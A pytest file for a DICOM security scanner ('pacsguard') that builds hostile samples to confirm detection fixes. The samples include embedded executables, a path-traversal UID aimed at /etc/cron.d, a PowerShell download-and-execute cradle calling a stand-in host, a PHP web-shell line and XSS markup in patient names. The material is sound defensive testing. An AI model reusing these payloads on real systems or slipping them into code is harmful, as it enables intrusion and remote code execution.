"""Detection gaps an outside tester found (issue #19 follow-up): each sample is built here from
pydicom's test files, and each test failed before the fix it names."""

from __future__ import annotations

import struct
import tracemalloc
import warnings
import zlib

import pytest
from pydicom.dataset import Dataset
from pydicom.uid import UID, DeflatedExplicitVRLittleEndian, ImplicitVRLittleEndian
from scan_samples import above, base, encapsulated, encode, pdf_document, quiet, rules, zip_bytes

from pacsguard.scan import part10
from pacsguard.scan.model import Level
from pacsguard.scan.scanner import Scanner

#: ELF identification (System V ABI 4.1: 64-bit, little endian, version 1) and some header.
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
#: A Mach-O 64-bit x86_64 header (mach-o/loader.h).
MACHO = b"\xcf\xfa\xed\xfe" + struct.pack("<I", 0x01000007) + bytes(24)
DEFLATED_TS = "1.2.840.10008.1.2.1.99"





def meta_end(data: bytes) -> int:
    """Where pydicom's file meta group ends (the data set starts)."""
    return part10.read(data).meta_end


def with_private(ds: Dataset, *values: bytes) -> Dataset:
    block = ds.private_block(0x0009, "PACSGUARD TEST", create=True)
    for i, value in enumerate(values):
        block.add_new(0x10 + i, "OB", value + (b"\x00" if len(value) % 2 else b""))
    return ds


# 1. A corrupt deflated data set is corrupt, not a bomb (part10._inflate).

def corrupt_deflated() -> bytes:
    ds = base()
    ds.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    data = encode(ds)
    return data[:meta_end(data)] + b"\xff\xff\xff\xff" + b"hello world, this is not deflate" * 9


def zlib_wrapped() -> bytes:
    """The data set deflated with a zlib header (RFC 1950), as some writers do by mistake, holding
    an ELF: dcmtk reads such streams when told to (dcmZlibExpectRFC1950Encoding)."""
    ds = with_private(base(), ELF)
    ds.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    data = encode(ds)
    at = meta_end(data)
    dataset = zlib.decompress(data[at:], -zlib.MAX_WBITS)
    return data[:at] + zlib.compress(dataset)


def test_a_corrupt_deflated_data_set_is_low_not_a_bomb(scanner: Scanner) -> None:
    report = scanner.scan_bytes(quiet(corrupt_deflated), "corrupt")
    assert rules(report) == {"structure.deflate-corrupt": Level.LOW}


def test_a_zlib_wrapped_data_set_is_low_and_still_searched(scanner: Scanner) -> None:
    report = scanner.scan_bytes(quiet(zlib_wrapped), "zlib")
    found = rules(report)
    assert found.get("structure.deflate-corrupt") == Level.LOW
    assert "structure.deflate-bomb" not in found
    assert found.get("embedded.elf") == Level.HIGH


# 2. Zeros are not DICOM, and the bytes after a data set are not copied (part10._plausible,
# rules/polyglot.trailing).

@pytest.mark.parametrize("size", [4096, 5 << 20], ids=["4KiB", "5MiB"])
def test_a_file_of_zeros_is_not_dicom(size: int, scanner: Scanner) -> None:
    report = scanner.scan_bytes(bytes(size), "zeros")
    assert [(f.rule, f.level) for f in report.findings] == [("structure.not-dicom", Level.INFO)]


def test_zeros_after_an_implicit_meta_group_are_no_element_flood(scanner: Scanner) -> None:
    """(0000,0000) with length 0, repeated: group 0000 is DIMSE's (PS3.5 7.1.1) and a top-level
    tag occurs once (PS3.5 7.1), so this is no data set of 650,000 elements."""
    ds = base()
    ds.file_meta.TransferSyntaxUID = ImplicitVRLittleEndian
    data = quiet(lambda: encode(ds))
    report = scanner.scan_bytes(data[:meta_end(data)] + bytes(5 << 20), "zeros")
    assert above(report, Level.LOW) == []


def test_bytes_after_the_data_set_are_judged_without_a_copy() -> None:
    data = quiet(lambda: encode(base())) + bytes(64 << 20)
    tracemalloc.start()
    try:
        report = Scanner().scan_bytes(data, "padded")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert rules(report).get("polyglot.zero-padding") == Level.LOW
    assert peak < 8 << 20, f"{peak:,} bytes allocated to judge {64 << 20:,} bytes of zeros"


# 3. Payloads in the file meta group (rules/embedded.candidates).

def meta_payload(payload: bytes, syntax: str | None = None) -> bytes:
    ds = base()
    ds.file_meta.PrivateInformationCreatorUID = UID("1.2.826.0.1.3680043.10.543.1")
    ds.file_meta.PrivateInformation = payload + (b"\x00" if len(payload) % 2 else b"")
    if syntax:
        ds.file_meta.TransferSyntaxUID = UID(syntax)
    return encode(ds)


@pytest.mark.parametrize("payload,kind", [(MACHO, "macho"), (zip_bytes({"a.exe": b"MZ" * 50}), "zip")],
                         ids=["macho", "zip"])
@pytest.mark.parametrize("syntax", [None, DEFLATED_TS], ids=["explicit", "deflated"])
def test_a_payload_in_the_file_meta_group_is_found(payload: bytes, kind: str, syntax: str | None,
                                                   scanner: Scanner) -> None:
    report = scanner.scan_bytes(quiet(lambda: meta_payload(payload, syntax)), "meta")
    found = [f for f in report.findings if f.rule == f"embedded.{kind}"]
    assert found and found[0].level == Level.HIGH and found[0].tag == "(0002,0102)"
    assert not found[0].inflated and not found[0].remedy  # in the file, not in the inflated stream


# 4. A value flooded with a signature's magic hides nothing (yara_engine.match_needles).

def flooded() -> bytes:
    return encode(with_private(base(), b"PK\x03\x04" * 1_100_000, zip_bytes({"evil.exe": b"MZ" * 40})))


def test_a_flood_of_magic_numbers_hides_no_zip(scanner: Scanner, capfd: pytest.CaptureFixture[str]) -> None:
    data = quiet(flooded)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        report = scanner.scan_bytes(data, "flood")
    assert [str(w.message) for w in caught if "too many matches" in str(w.message)] == []
    assert "too many matches" not in capfd.readouterr().err
    zips = [f for f in report.findings if f.rule == "embedded.zip"]
    assert zips and zips[0].level == Level.HIGH and zips[0].offset is not None
    assert data[zips[0].offset:zips[0].offset + 4] == b"PK\x03\x04" and data[zips[0].offset + 30:].startswith(b"evil")
    flood = [f for f in report.findings if f.rule == "embedded.flood"]
    assert flood and flood[0].level == Level.MEDIUM and flood[0].tag not in (None, zips[0].tag)


def test_a_flood_is_bounded_without_yara_too() -> None:
    report = Scanner().scan_bytes(quiet(flooded), "flood")
    found = rules(report)
    assert found.get("embedded.zip") == Level.HIGH and found.get("embedded.flood") == Level.MEDIUM
    assert report.seconds < 5


# 5. PDF names of any length, #xx-escaped (ISO 32000-1 7.3.5; rules/documents.PDF_NAME).

def hex_name(name: str) -> bytes:
    return b"/" + "".join(f"#{c:02X}" for c in name.encode()).encode()


def test_fully_escaped_long_pdf_names_are_decoded(scanner: Scanner) -> None:
    pdf = (b"%PDF-1.7\n1 0 obj<</Type/Catalog/Names<<" + hex_name("EmbeddedFiles") + b" 3 0 R>>"
           + hex_name("OpenAction") + b" 2 0 R>>endobj\n5 0 obj<</Type" + hex_name("EmbeddedFile")
           + b"/Length 2>>stream\nMZ\nendstream endobj\n%%EOF\n")
    report = scanner.scan_bytes(quiet(lambda: pdf_document(pdf)), "pdf")
    active = [f for f in report.findings if f.rule == "documents.pdf-active"]
    assert active and active[0].level == Level.HIGH
    for name in ("/EmbeddedFiles", "/OpenAction", "/EmbeddedFile"):
        assert name in active[0].explanation


# 6. UIDs of any length are checked (rules/structure._uids).

def test_a_uid_longer_than_1024_bytes_is_checked_for_traversal(scanner: Scanner) -> None:
    ds = base()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pydicom: longer than UI allows, as meant
        ds.SOPInstanceUID = "../../../../etc/cron.d/" + "1" * 1100
    found = rules(scanner.scan_bytes(quiet(lambda: encode(ds)), "uid"))
    assert found.get("structure.uid-path-traversal") == Level.HIGH
    assert found.get("structure.bad-uid") == Level.LOW  # and over 64 bytes (PS3.5 9.1)


# 7. Scripts in UTF-16, PHP, and markup (signatures.SCRIPT).

CRADLE = "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')"


@pytest.mark.parametrize("encoding,bom", [("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")],
                         ids=["le", "be"])
def test_a_utf16_powershell_cradle_in_a_value_is_a_script(encoding: str, bom: bytes, scanner: Scanner) -> None:
    data = quiet(lambda: encode(with_private(base(), bom + CRADLE.encode(encoding))))
    assert rules(scanner.scan_bytes(data, "ps")).get("embedded.script") == Level.HIGH


@pytest.mark.parametrize("preamble", [b"\xff\xfe" + "<html><script>alert(1)</script>".encode("utf-16-le"),
                                      b"<?php system($_GET['c']); ?>"], ids=["utf16-html", "php"])
def test_a_script_preamble_is_high(preamble: bytes, scanner: Scanner) -> None:
    data = quiet(lambda: encode(base(), preamble.ljust(128, b"\x00")))
    assert rules(scanner.scan_bytes(data, "pre")).get("preamble.script") == Level.HIGH


@pytest.mark.parametrize("name", ["<iframe/src=javascript&colon;alert(1)>",
                                  "<object data=//x.invalid/a.swf>", "<embed src=//x.invalid/a>",
                                  "<img src=x onmouseover=alert(1)>", "<script/src=//x.invalid/x.js></script>",
                                  "A" * 4100 + "<script>alert(1)</script>"],
                         ids=["iframe-slash", "object", "embed", "onmouseover", "script-slash", "past-4KiB"])
def test_markup_in_a_person_name_is_found(name: str) -> None:
    ds = base()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pydicom: longer than PN allows, as meant
        ds.PatientName = name
    found = rules(Scanner().scan_bytes(quiet(lambda: encode(ds)), "pn"))
    assert found.get("structure.markup") == Level.HIGH


# 8. Content split across pixel data fragments (rules/embedded).

def split(payload: bytes, *cuts: int) -> list[bytes]:
    """``payload`` after 32 bytes of codec stream, cut at these offsets into fragments (even lengths)."""
    stream = b"\xff\xd8" + bytes(30) + payload + bytes(64 + len(payload) % 2)
    bounds = [0, *(32 + c for c in cuts), len(stream)]
    return [stream[a:b] for a, b in zip(bounds, bounds[1:], strict=False)]


@pytest.mark.parametrize("payload,kind,cuts", [
    (ELF, "elf", (2,)),
    (zip_bytes({"evil.exe": b"MZ" * 40}), "zip", (2,)),
    (ELF, "elf", (2, 4)),  # over three fragments, the middle one two bytes
    (MACHO, "macho", (6,)),
], ids=["elf", "zip", "elf-three", "macho"])
def test_a_payload_split_across_fragments_is_found(payload: bytes, kind: str, cuts: tuple[int, ...],
                                                   scanner: Scanner) -> None:
    data = quiet(lambda: encapsulated(*split(payload, *cuts)))
    found = [f for f in scanner.scan_bytes(data, "frag").findings if f.rule == f"embedded.{kind}"]
    assert found and found[0].level == Level.HIGH and found[0].tag == "(7FE0,0010)"
    assert found[0].offset is not None and data[found[0].offset:found[0].offset + 2] == payload[:2]


def test_a_string_yara_stops_counting_is_a_note_not_a_warning(scanner: Scanner,
                                                             capfd: pytest.CaptureFixture[str]) -> None:
    """pacsguard_appended_zip's $eocd, a million times: the rule may miss the real one at the end."""
    data = quiet(lambda: encode(with_private(base(), b"PK\x05\x06" * 1_000_001)))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        report = scanner.scan_bytes(data, "eocd")
    assert [str(w.message) for w in caught if "too many matches" in str(w.message)] == []
    assert "too many matches" not in capfd.readouterr().err
    assert rules(report).get("yara.too-many-matches") == Level.LOW
